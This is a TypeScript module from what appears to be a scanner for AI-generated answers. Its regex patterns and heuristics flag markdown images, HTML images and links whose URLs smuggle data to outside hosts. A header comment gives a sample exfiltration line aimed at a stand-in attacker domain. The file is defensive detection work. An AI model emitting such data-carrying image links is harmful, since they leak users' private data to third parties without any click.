/**
 * Answer-side exfiltration channels: a markdown image (fetched by the client with no click)
 * or link whose URL carries data to an outside host, e.g. `![x](https://evil.example/p?q=<base64>)`.
 */
import type { Pattern } from '../types.js';

/** True when a URL's query or path carries a payload: long values, base64/hex runs or many escapes. */
export function urlCarriesData(rawUrl: string): boolean {
  let url: URL;
  try {
    url = new URL(rawUrl);
  } catch {
    return false;
  }
  const payloadish = (v: string): boolean =>
    v.length >= 40 ||
    /[A-Za-z0-9+/_\-]{24,}={0,2}/.test(v) ||
    /(?:%[0-9A-Fa-f]{2}[^%]{0,3}){6,}/.test(v) ||
    (v.length >= 16 && /[\s,;:]/.test(v));
  for (const [, v] of url.searchParams) if (payloadish(v) || payloadish(encodeURIComponent(v))) return true;
  if (url.hash.length > 40) return true;
  // Data smuggled in the path: one very long segment.
  return url.pathname.split('/').some((seg) => seg.length >= 48 && /[A-Za-z0-9+_\-%]{48,}/.test(seg));
}

export interface ExfilOptions {
  /** Hosts the answer may link to freely (your own domains). */
  allowedHosts?: readonly string[];
}

function hostAllowed(rawUrl: string, allowed: readonly string[]): boolean {
  try {
    const host = new URL(rawUrl).hostname.toLowerCase();
    return allowed.some((a) => host === a || host.endsWith(`.${a}`));
  } catch {
    return false;
  }
}

export function exfiltrationPatterns(opts: ExfilOptions = {}): Pattern[] {
  const allowed = (opts.allowedHosts ?? []).map((h) => h.toLowerCase());
  const check = (m: RegExpExecArray): boolean => {
    const url = m[1] ?? '';
    return !hostAllowed(url, allowed) && urlCarriesData(url);
  };
  return [
    {
      id: 'exfiltration.markdown_image',
      category: 'exfiltration',
      score: 85,
      re: /!\[[^\]\n]{0,200}\]\(\s*<?(https?:\/\/[^\s)>]{1,2048})>?\)?/g,
      literals: ['!['],
      lead: 0,
      validate: check,
      gate: (t) => t.linkish || t.colons > 0,
      maxSpan: 260,
    },
    {
      id: 'exfiltration.html_image',
      category: 'exfiltration',
      score: 85,
      re: /<img\b[^>]{0,200}?\bsrc\s*=\s*["']?(https?:\/\/[^\s"'>]{1,2048})/gi,
      literals: ['<img', '<IMG', '<Img'],
      lead: 0,
      validate: check,
      gate: (t) => t.linkish || t.colons > 0,
      maxSpan: 260,
    },
    {
      id: 'exfiltration.markdown_link',
      category: 'exfiltration',
      score: 70,
      re: /(?<!!)\[[^\]\n]{0,200}\]\(\s*<?(https?:\/\/[^\s)>]{1,2048})>?\)?/g,
      literals: ['['],
      lead: 0,
      validate: check,
      gate: (t) => t.linkish || t.colons > 0,
      maxSpan: 260,
    },
    {
      id: 'exfiltration.reference_image',
      category: 'exfiltration',
      score: 80,
      re: /^\s{0,3}\[[^\]\n]{1,100}\]:\s*<?(https?:\/\/[^\s>]{1,2048})/gm,
      literals: ['['],
      lead: 3,
      validate: check,
      gate: (t) => t.linkish || t.colons > 0,
      maxSpan: 260,
    },
  ];
}
